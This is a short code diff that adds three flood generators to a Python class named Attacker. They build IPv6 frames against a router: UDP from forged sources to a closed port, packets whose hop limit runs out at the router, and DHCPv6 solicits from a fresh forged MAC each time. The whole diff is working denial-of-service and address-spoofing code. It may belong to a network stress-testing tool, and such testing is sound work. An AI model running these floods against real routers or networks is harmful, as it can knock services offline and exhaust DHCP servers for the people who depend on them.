@@ -110,6 +110,28 @@ class Attacker:
 
         return made
 
+    def datagrams(self, router: str) -> Flood:
+        """UDP to a port of the router where nobody listens, each from another source."""
+        udp = bytes.fromhex("1234432100080000")
+        return lambda number: self.frame(ipv6.Packet(self.forged_source(number), IPv6Address(router), ipv6.UDP, udp))
+
+    def expired(self, destination: str) -> Flood:
+        """Packets to somewhere else whose hop limit is used up here."""
+        packet = ipv6.Packet(self.address, IPv6Address(destination), NO_NEXT_HEADER, b"", 1)
+        return lambda number: self.frame(packet)
+
+    def dhcpv6(self) -> Flood:
+        """What a client says to all servers, from a MAC that each is new; only that it is one matters."""
+        servers = IPv6Address("ff02::1:2")
+
+        def made(number: int) -> Frame:
+            mac = self.forged_mac(number)
+            udp = (546).to_bytes(2) + (547).to_bytes(2) + (12).to_bytes(2) + bytes(2) + b"\1" + number.to_bytes(3)
+            packet = ipv6.Packet(mac.link_local(), servers, ipv6.UDP, udp)
+            return Frame(group_mac(servers), mac, TYPE_IPV6, packet.encode())
+
+        return made
+
     def messages(self, destination: str, next_header: int, payload: bytes, forged: bool = True) -> Flood:
         """The same message of a protocol, each from another source if it is forged."""
         to = IPv6Address(destination)
